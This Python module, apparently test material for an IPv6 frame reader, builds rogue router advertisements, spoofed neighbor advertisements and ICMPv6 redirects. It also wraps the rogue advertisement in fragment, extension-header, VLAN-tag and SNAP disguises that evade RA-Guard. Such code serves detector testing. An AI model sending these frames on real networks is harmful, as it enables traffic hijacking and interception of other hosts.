"""Frames of the attacks that reading/making.py hasn't. A MAC address and an address are numbers."""
from reading import making
from reading.frame import ADVERTISEMENT, FRAGMENT, ICMPV6, REDIRECT, ROUTER_ADVERTISEMENT, SOLICITATION
from reading.making import ALL_NODES, octets

DESTINATION_OPTIONS = 60
ETHERTYPE_IPV6, ETHERTYPE_VLAN = 0x86DD, 0x8100

# RFC 4861 section 4.6: source and target link-layer address, prefix information (on-link and autonomous).
SOURCE_LINK_ADDRESS, TARGET_LINK_ADDRESS, PREFIX_INFORMATION = 1, 2, 3
ON_LINK_AND_AUTONOMOUS = 0xC0
# Flags of a neighbor advertisement: from a router, solicited, override.
ROUTER, SOLICITED, OVERRIDE = 0x80, 0x40, 0x20

# In s.
LIFETIME = 1800

# IEEE 802.2 with SNAP, in front of an EtherType (RFC 1042).
SNAP = bytes.fromhex("aaaa03000000")


def link_address(kind, mac):
    return bytes([kind, 1]) + octets(mac, 6)


def router_advertisement(source, prefix):
    """The message, with its checksum, which says that source is a router and that hosts may take addresses in prefix/64."""
    message = bytes([ROUTER_ADVERTISEMENT, 0, 0, 0, 64, 0]) + octets(LIFETIME, 2) + bytes(8)
    message += bytes([PREFIX_INFORMATION, 4, 64, ON_LINK_AND_AUTONOMOUS]) + octets(LIFETIME, 4) * 2 + bytes(4)
    message += octets(prefix, 16)
    return making.summed(source, ALL_NODES, ICMPV6, message, 2)


def to_all_nodes(mac, source, next_header, body):
    packet = making.packet(source, ALL_NODES, next_header, 255, body)
    return making.frame(making.group_mac(ALL_NODES), mac, ETHERTYPE_IPV6, packet)


def options(next_header):
    """A destination options header without options, of 8 octets (RFC 8200 section 4.6)."""
    return bytes([next_header, 0, 1, 4, 0, 0, 0, 0])


def fragment(next_header, place, is_more, identification):
    """A fragment header (RFC 8200 section 4.5). `place` is in octets."""
    return bytes([next_header, 0]) + octets(place | is_more, 2) + octets(identification, 4)


def tagged(frame, count=1):
    """Behind so many VLAN tags of VLAN 0, which say a priority and no VLAN (IEEE 802.1Q clause 6.9)."""
    return frame[:12] + (octets(ETHERTYPE_VLAN, 2) + bytes(2)) * count + frame[12:]


def untagged(frame):
    while frame[12:14] == octets(ETHERTYPE_VLAN, 2):
        frame = frame[:12] + frame[16:]
    return frame


def in_snap(frame):
    """With a length and a SNAP header in place of its EtherType."""
    payload = SNAP + frame[12:]
    return frame[:12] + octets(len(payload), 2) + payload


def advertisement(mac, source, target, flags, destination=ALL_NODES, destination_mac=None):
    """A neighbor advertisement which says that the target is at this MAC address."""
    message = bytes([ADVERTISEMENT, 0, 0, 0, flags, 0, 0, 0]) + octets(target, 16) + link_address(TARGET_LINK_ADDRESS, mac)
    return making.icmp(mac, source, destination, message, destination_mac=destination_mac)


def solicitation(mac, source, target, destination_mac):
    """A neighbor solicitation to a host's MAC address."""
    message = bytes([SOLICITATION]) + bytes(7) + octets(target, 16) + link_address(SOURCE_LINK_ADDRESS, mac)
    return making.icmp(mac, source, target, message, destination_mac=destination_mac)


def redirect(mac, router, hop, destination, host, host_mac):
    """A redirect in a router's name: `hop`, at this MAC address, is the better way to the destination."""
    message = bytes([REDIRECT]) + bytes(7) + octets(hop, 16) + octets(destination, 16)
    return making.icmp(mac, router, host, message + link_address(TARGET_LINK_ADDRESS, mac), destination_mac=host_mac)


def datagram(mac, source, destination, destination_mac, port, payload):
    packet = making.datagram(source, destination, port, port, payload)
    return making.frame(destination_mac, mac, ETHERTYPE_IPV6, packet)


def hidden_forms(mac, source, prefix, identification):
    """The router advertisement in each of its disguises, as (title, frames)."""
    message = router_advertisement(source, prefix)

    def whole(next_header, body):
        return to_all_nodes(mac, source, next_header, body)

    def piece(place, is_more, body):
        return whole(FRAGMENT, fragment(DESTINATION_OPTIONS, place, is_more, identification) + body)

    plain = whole(ICMPV6, message)
    one = fragment(ICMPV6, 0, False, identification)
    return {
        "plain": [plain],
        "options": [whole(DESTINATION_OPTIONS, options(ICMPV6) + message)],
        "atomic": [whole(FRAGMENT, one + message)],
        "later": [piece(0, True, options(ICMPV6)), piece(8, False, message)],
        "chain": [piece(0, True, options(DESTINATION_OPTIONS)), piece(8, False, options(ICMPV6) + message)],
        "priority": [tagged(plain)],
        "priorities": [tagged(plain, 2)],
        "snap": [in_snap(plain)],
    }
